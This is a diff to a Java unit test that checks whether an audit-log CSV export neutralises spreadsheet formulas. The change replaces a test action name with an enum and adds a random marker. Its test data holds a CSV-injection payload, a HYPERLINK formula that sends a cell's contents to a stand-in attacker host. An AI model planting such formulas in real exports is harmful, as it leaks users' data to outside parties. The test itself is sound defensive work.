@@ -1,5 +1,6 @@
 package com.demarc.audit.ui;
 
+import com.demarc.audit.AuditAction;
 import com.demarc.audit.AuditFilter;
 import com.demarc.audit.AuditLog;
 import com.demarc.support.DemarcTest;
@@ -24,8 +25,9 @@ class AuditLogCsvTest {
     @WithUserDetails("auditor")
     void theAuditLogExportNeutralisesFormulas() throws Exception {
         String hostile = "=HYPERLINK(\"https://evil.example/\"&B2,\"open\")";
-        audit.recordIndependently("TEST_FORMULA_EXPORT", "evidence", 1, hostile);
-        byte[] csv = AuditLogCsv.csv(audit, new AuditFilter(null, "TEST_FORMULA_EXPORT", null, null, null));
+        String marker = java.util.UUID.randomUUID().toString();
+        audit.recordIndependently(AuditAction.EVIDENCE_DOWNLOADED, "evidence", marker, hostile);
+        byte[] csv = AuditLogCsv.csv(audit, new AuditFilter(null, AuditAction.EVIDENCE_DOWNLOADED.name(), marker, null, null));
         try (var parser = CSVParser.builder().setReader(new StringReader(new String(csv, StandardCharsets.UTF_8)))
                 .setFormat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
             var rows = parser.getRecords();
